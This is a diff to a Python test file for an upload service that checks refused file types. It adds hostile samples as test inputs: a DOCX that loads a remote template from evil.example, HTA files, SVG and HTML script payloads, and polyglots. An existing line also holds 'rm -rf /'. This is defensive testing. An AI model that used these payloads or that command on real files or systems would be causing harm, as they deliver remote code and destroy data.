@@ -78,6 +78,23 @@ def _zip(names: list[str]) -> bytes:
     return buffer.getvalue()
 
 
+def _docx_with_remote_template() -> bytes:
+    """A real DOCX whose settings pull a template from a web server when Word opens it."""
+    with zipfile.ZipFile(io.BytesIO(sample_files.docx_file())) as source:
+        parts = {info.filename: source.read(info) for info in source.infolist()}
+    parts["word/_rels/settings.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Target="http://evil.example/t.dotm" TargetMode="External" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+        b"</Relationships>"
+    )
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200
 PE = b"MZ" + b"\x90" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
 MACHO = b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x01000007) + b"\x00" * 200
@@ -92,6 +109,10 @@ MACHO = b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x01000007) + b"\x00" * 200
         (b"#!/bin/sh\nrm -rf /\n", "notes.txt", "script"),
         (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "page.txt", "script"),
         (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.svg", "script"),
+        (b"Hello, this is only text.\n", "update.hta", "script"),
+        (b"<!-- first a comment -->\n<svg onload=alert(1)>", "logo.txt", "script"),
+        (b"<html><body>x</body></html>\n" + sample_files.pdf(), "update.hta", "polyglot"),
+        (_docx_with_remote_template(), "report.docx", "script"),
         (_zip(["a.txt", "b.txt"]), "archive.docx", "archive"),
         (sample_files.image("JPEG") + _zip(["payload.exe"]), "photo.jpg", "polyglot"),
         (sample_files.pdf() + ELF, "doc.pdf", "polyglot"),
@@ -102,6 +123,7 @@ MACHO = b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x01000007) + b"\x00" * 200
 async def test_refused_content_stores_nothing(client, blobs, alice, content, filename, code):
     response = await upload(client, alice, content, filename, "image/jpeg")
     assert response.status_code == 415, response.text
+    assert response.headers["x-content-type-options"] == "nosniff"
     body = response.json()
     assert body["code"] == code
     assert body["detail"]
